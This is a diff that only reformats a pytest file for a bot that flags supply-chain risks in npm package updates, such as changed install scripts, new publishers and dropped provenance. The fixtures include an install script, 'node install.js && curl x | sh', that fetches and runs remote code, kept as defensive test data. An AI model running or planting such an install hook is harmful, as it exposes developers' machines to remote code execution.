@@ -8,9 +8,9 @@ from typing import Any
 
 import pytest
 
-from bot.risk import RiskSignal, compare_versions
 from bot.sources.npm import Dist, PackageVersion
 from bot.steps.registry import get_step
+from bot.verify.risk import RiskSignal, compare_versions
 from tests.support.step_context import make_context, rotation_for
 from tests.support.verdaccio import Verdaccio, start_verdaccio
 
@@ -27,8 +27,9 @@ def version(number: str, **fields: Any) -> PackageVersion:
         provenance_predicate=fields.pop("provenance", None),
         unpacked_size=fields.pop("size", 1_000_000),
     )
-    return PackageVersion(name="pkg", version=number, dist=dist,
-                          publisher=fields.pop("publisher", "lovell"), **fields)
+    return PackageVersion(
+        name="pkg", version=number, dist=dist, publisher=fields.pop("publisher", "lovell"), **fields
+    )
 
 
 def signals_of(*found: RiskSignal) -> list[tuple[str, str]]:
@@ -36,27 +37,38 @@ def signals_of(*found: RiskSignal) -> list[tuple[str, str]]:
 
 
 def test_identical_metadata_gives_no_signal() -> None:
-    assert compare_versions(version("1.0.0", size=1_000_000), version("1.0.1", size=1_150_000)) == ()
+    assert (
+        compare_versions(version("1.0.0", size=1_000_000), version("1.0.1", size=1_150_000)) == ()
+    )
 
 
 def test_install_scripts_added_and_changed_but_not_removed() -> None:
-    previous = version("1.0.0", install_scripts={"install": "node install.js",
-                                                 "preinstall": "echo hi"})
-    new = version("1.0.1", install_scripts={"install": "node install.js && curl x | sh",
-                                            "postinstall": "node p.js"})
+    previous = version(
+        "1.0.0", install_scripts={"install": "node install.js", "preinstall": "echo hi"}
+    )
+    new = version(
+        "1.0.1",
+        install_scripts={"install": "node install.js && curl x | sh", "postinstall": "node p.js"},
+    )
 
     assert signals_of(*compare_versions(previous, new)) == [
-        ("install-script-changed",
-         "`install` changed from `node install.js` to `node install.js && curl x | sh`"),
+        (
+            "install-script-changed",
+            "`install` changed from `node install.js` to `node install.js && curl x | sh`",
+        ),
         ("install-script-added", "`postinstall`: `node p.js`"),
     ]
 
 
 def test_new_dependencies_regular_and_optional() -> None:
-    previous = version("1.0.0", dependencies={"color": "^4"},
-                       optional_dependencies={"@img/a": "1.0.0"})
-    new = version("1.0.1", dependencies={"color": "^4", "left-pad": "1.3.0"},
-                  optional_dependencies={"@img/a": "1.0.1", "@img/b": "1.0.1"})
+    previous = version(
+        "1.0.0", dependencies={"color": "^4"}, optional_dependencies={"@img/a": "1.0.0"}
+    )
+    new = version(
+        "1.0.1",
+        dependencies={"color": "^4", "left-pad": "1.3.0"},
+        optional_dependencies={"@img/a": "1.0.1", "@img/b": "1.0.1"},
+    )
 
     assert signals_of(*compare_versions(previous, new)) == [
         ("new-dependency", "dependency `left-pad` `1.3.0`"),
@@ -75,8 +87,9 @@ def test_new_publisher_unless_they_published_earlier_versions() -> None:
 
 
 def test_provenance_present_then_absent() -> None:
-    with_provenance = version("1.0.0", attestations_url="https://registry.example/att",
-                              provenance=PROVENANCE)
+    with_provenance = version(
+        "1.0.0", attestations_url="https://registry.example/att", provenance=PROVENANCE
+    )
 
     assert signals_of(*compare_versions(with_provenance, version("1.0.1"))) == [
         ("provenance-dropped", "1.0.0 was published with provenance, 1.0.1 without")
@@ -101,8 +114,12 @@ def test_unpacked_size_change_over_twenty_percent(
 
 
 def test_newly_pinned_package_reports_only_its_install_scripts() -> None:
-    new = version("1.0.0", install_scripts={"install": "node-gyp rebuild"},
-                  dependencies={"x": "1"}, publisher="someone")
+    new = version(
+        "1.0.0",
+        install_scripts={"install": "node-gyp rebuild"},
+        dependencies={"x": "1"},
+        publisher="someone",
+    )
 
     assert signals_of(*compare_versions(None, new)) == [
         ("install-script-added", "`install`: `node-gyp rebuild`")
@@ -115,24 +132,38 @@ def risky_registry(tmp_path: Path) -> Iterator[Verdaccio]:
     server = start_verdaccio(tmp_path / "verdaccio")
     try:
         binary = {"os": ["linux"], "cpu": ["x64"], "_npmUser": {"name": "lovell"}}
-        server.publish("@img/sharp-linux-x64", "1.0.0", extra=binary,
-                       dist_extra={"unpackedSize": 7_000_000})
-        server.publish("@img/sharp-linux-x64", "1.1.0", extra=binary,
-                       dist_extra={"unpackedSize": 7_100_000})
-        server.publish("sharp", "0.9.0", extra={"_npmUser": {"name": "helper"}})
         server.publish(
-            "sharp", "1.0.0",
-            extra={"_npmUser": {"name": "lovell"}, "dependencies": {"color": "^4.2.3"},
-                   "optionalDependencies": {"@img/sharp-linux-x64": "1.0.0"}},
-            dist_extra={"unpackedSize": 500_000, "attestations": {
-                "url": "https://registry.example/-/npm/v1/attestations/sharp@1.0.0",
-                "provenance": {"predicateType": PROVENANCE}}},
+            "@img/sharp-linux-x64", "1.0.0", extra=binary, dist_extra={"unpackedSize": 7_000_000}
         )
         server.publish(
-            "sharp", "1.1.0",
-            extra={"_npmUser": {"name": "mallory"}, "scripts": {"postinstall": "node x.js"},
-                   "dependencies": {"color": "^4.2.3", "semver": "^7.6.3"},
-                   "optionalDependencies": {"@img/sharp-linux-x64": "1.1.0"}},
+            "@img/sharp-linux-x64", "1.1.0", extra=binary, dist_extra={"unpackedSize": 7_100_000}
+        )
+        server.publish("sharp", "0.9.0", extra={"_npmUser": {"name": "helper"}})
+        server.publish(
+            "sharp",
+            "1.0.0",
+            extra={
+                "_npmUser": {"name": "lovell"},
+                "dependencies": {"color": "^4.2.3"},
+                "optionalDependencies": {"@img/sharp-linux-x64": "1.0.0"},
+            },
+            dist_extra={
+                "unpackedSize": 500_000,
+                "attestations": {
+                    "url": "https://registry.example/-/npm/v1/attestations/sharp@1.0.0",
+                    "provenance": {"predicateType": PROVENANCE},
+                },
+            },
+        )
+        server.publish(
+            "sharp",
+            "1.1.0",
+            extra={
+                "_npmUser": {"name": "mallory"},
+                "scripts": {"postinstall": "node x.js"},
+                "dependencies": {"color": "^4.2.3", "semver": "^7.6.3"},
+                "optionalDependencies": {"@img/sharp-linux-x64": "1.1.0"},
+            },
             dist_extra={"unpackedSize": 900_000},
         )
         yield server
@@ -141,8 +172,9 @@ def risky_registry(tmp_path: Path) -> Iterator[Verdaccio]:
 
 
 def test_assess_risk_step_reads_the_registry(risky_registry: Verdaccio, tmp_path: Path) -> None:
-    rotation = rotation_for("1.1.0", {"@img/sharp-linux-x64": ("1.0.0", "1.1.0")},
-                            previous_version="1.0.0")
+    rotation = rotation_for(
+        "1.1.0", {"@img/sharp-linux-x64": ("1.0.0", "1.1.0")}, previous_version="1.0.0"
+    )
     ctx = make_context(tmp_path, risky_registry.url, rotation)
 
     result = get_step("assess-risk")(ctx)
@@ -164,8 +196,14 @@ def test_assess_risk_step_reads_the_registry(risky_registry: Verdaccio, tmp_path
 
 def test_assess_risk_step_skips_digest_rotations(tmp_path: Path) -> None:
     rotation = rotation_for("1.1.0", {})
-    digest = type(rotation)(runbook="base-image", kind="digest", subject="Dockerfile",
-                            previous_version=None, new_version="2024-01-01", branch="b")
+    digest = type(rotation)(
+        runbook="base-image",
+        kind="digest",
+        subject="Dockerfile",
+        previous_version=None,
+        new_version="2024-01-01",
+        branch="b",
+    )
     ctx = make_context(tmp_path, "http://127.0.0.1:9/", digest)
 
     result = get_step("assess-risk")(ctx)
